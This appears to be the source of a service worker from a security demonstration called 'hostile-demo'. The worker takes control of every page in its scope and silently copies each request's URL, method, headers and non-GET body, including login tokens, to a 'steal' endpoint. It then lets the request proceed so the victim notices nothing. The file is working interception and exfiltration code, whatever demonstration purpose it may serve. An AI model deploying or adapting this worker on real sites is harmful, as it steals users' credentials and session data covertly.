// hostile-demo's service worker. It records every request made under its scope (URL,
// method, headers, and the body of anything but GET: a login form's token) and posts it
// to the demo's `steal`, then lets the request go on as if nothing happened, so that
// nobody notices. `GET steal-log` on the demo shows what it got.
const steal = new URL("steal", self.location).href;

self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));

const record = async (request, body) => {
  const headers = {};
  for (const [name, value] of request.headers) headers[name] = value;
  try {
    await fetch(steal, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ url: request.url, method: request.method, mode: request.mode, headers, body }),
    });
  } catch (e) {
    // Nowhere to send it: the page must not notice either way.
  }
};

self.addEventListener("fetch", (event) => {
  const request = event.request;
  if (request.url === steal) return;
  if (request.method === "GET" || request.method === "HEAD") {
    // Seen, not touched: the browser fetches it as usual.
    event.waitUntil(record(request, null));
    return;
  }
  // A body can only be read by answering the request ourselves.
  event.respondWith((async () => {
    const body = await request.clone().text().catch(() => null);
    await record(request, body);
    return fetch(request);
  })());
});
